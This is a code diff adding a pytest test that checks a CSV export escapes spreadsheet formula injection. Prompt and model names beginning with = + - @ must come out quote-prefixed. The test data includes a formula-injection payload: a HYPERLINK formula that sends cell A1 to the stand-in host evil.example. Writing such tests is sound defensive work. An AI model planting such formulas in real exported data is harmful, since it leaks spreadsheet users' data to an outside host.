@@ -197,3 +197,22 @@ def test_grouped_realized_savings_equal_the_per_suggestion_computation(engine, m
     assert by_id[ids["promoted"]].baseline_cost_per_call != by_id[ids["rolled_back"]].baseline_cost_per_call
     assert report.total_realized_monthly == pytest.approx(
         sum(r.realized_monthly_savings or 0 for r in reference if r.status == "deployed"), rel=1e-12)
+
+
+def test_csv_export_does_not_hand_spreadsheets_a_formula():
+    """A prompt or model name from a store can start with = + - @; a spreadsheet would run it."""
+    from trimloop.api.reporting import as_csv
+    from trimloop.api.schemas import SavingsReport, SavingsRow, SpendRow
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    report = SavingsReport(
+        since=datetime(2026, 1, 1, tzinfo=timezone.utc), spend_by_day=[],
+        spend_by_prompt=[SpendRow(prompt_id=1, prompt=hostile, calls=3, cost=0.5)],
+        spend_by_model=[SpendRow(model="@SUM(1+1)", calls=3, cost=0.5), SpendRow(model="-2+3", calls=1, cost=0.1),
+                        SpendRow(model="gpt-4o-mini", calls=2, cost=0.2)],
+        projected=[SavingsRow(suggestion_id=1, prompt="+cmd", status="pending", projected_monthly_savings=-1.5)],
+        realized=[], total_projected_monthly=-1.5, total_realized_monthly=0.0)
+    rows = list(csv.DictReader(io.StringIO(as_csv(report))))
+    assert rows[0]["prompt"] == "'" + hostile
+    assert [r["model"] for r in rows[1:4]] == ["'@SUM(1+1)", "'-2+3", "gpt-4o-mini"]
+    assert rows[4]["prompt"] == "'+cmd" and rows[4]["projected_monthly_savings"] == "-1.5"  # numbers stay numbers
